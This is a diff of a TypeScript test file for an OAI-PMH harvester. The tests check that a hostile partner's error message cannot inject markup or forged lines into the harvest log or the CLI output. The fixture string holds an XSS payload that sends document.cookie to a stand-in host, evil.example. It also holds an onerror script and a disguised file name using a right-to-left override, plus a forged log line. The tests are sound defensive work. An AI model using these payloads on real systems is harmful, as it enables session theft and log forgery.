@@ -19,9 +19,15 @@ afterEach(async () => {
 });
 
 const identify = fixture('valid/oai/sickle/Identify.xml');
-const hostile = `&lt;script&gt;fetch('//evil.example/'+document.cookie)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;&#x202E;gnp.exe&#x7; line one&#xA;ERROR forged line&#x85;${'padding '.repeat(2000)}`;
+const hostile =
+  `&lt;script&gt;fetch('//evil.example/'+document.cookie)&lt;/script&gt;&lt;img ` +
+  `src=x onerror=alert(1)&gt;&#x202E;gnp.exe&#x7; line one&#xA;ERROR forged ` +
+  `line&#x85;${'padding '.repeat(2000)}`;
 const oaiError = (code: string, message: string) =>
-  `<?xml version="1.0" encoding="UTF-8"?><OAI-PMH xmlns="http://www.openarchives.org/OAI/2.0/"><responseDate>2026-01-01T00:00:00Z</responseDate><request verb="ListRecords">http://x/oai</request><error code="${code}">${message}</error></OAI-PMH>`;
+  `<?xml version="1.0" encoding="UTF-8"?><OAI-PMH ` +
+  `xmlns="http://www.openarchives.org/OAI/2.0/"><responseDate>` +
+  `2026-01-01T00:00:00Z</responseDate><request verb="ListRecords">` +
+  `http://x/oai</request><error code="${code}">${message}</error></OAI-PMH>`;
 
 /** What must hold for any partner text that was published or printed. */
 function expectClean(text: string, maxLength: number) {
@@ -76,20 +82,23 @@ describe('cleanMessage', () => {
 });
 
 describe('a hostile partner', () => {
-  it("cannot put markup or control characters into harvest-log.json or the CLI's error through an OAI-PMH <error>", async () => {
-    const { result, entry } = await harvestHostile((q) =>
-      q.get('verb') === 'Identify' ? identify : oaiError('badArgument', hostile),
-    );
-    expect(result.code).toBe(2);
-    expectClean(entry.lastError, 300);
-    expect(entry.lastErrorCode).toBe('badArgument');
-    expect(entry.runs[0].errorCode).toBe('badArgument');
-    expect(entry.lastError).toContain('badArgument');
-    const errorLines = result.stderr.split('\n').filter((line) => line.includes('badArgument'));
-    expect(errorLines).toHaveLength(1);
-    expectClean(errorLines[0], 1000);
-    expect(result.stderr).not.toMatch(/^ERROR forged line/m);
-  });
+  it(
+    "cannot put markup or control characters into harvest-log.json or the CLI's " + 'error through an OAI-PMH <error>',
+    async () => {
+      const { result, entry } = await harvestHostile((q) =>
+        q.get('verb') === 'Identify' ? identify : oaiError('badArgument', hostile),
+      );
+      expect(result.code).toBe(2);
+      expectClean(entry.lastError, 300);
+      expect(entry.lastErrorCode).toBe('badArgument');
+      expect(entry.runs[0].errorCode).toBe('badArgument');
+      expect(entry.lastError).toContain('badArgument');
+      const errorLines = result.stderr.split('\n').filter((line) => line.includes('badArgument'));
+      expect(errorLines).toHaveLength(1);
+      expectClean(errorLines[0], 1000);
+      expect(result.stderr).not.toMatch(/^ERROR forged line/m);
+    },
+  );
 
   it('cannot choose the error code published', async () => {
     const { entry } = await harvestHostile((q) =>
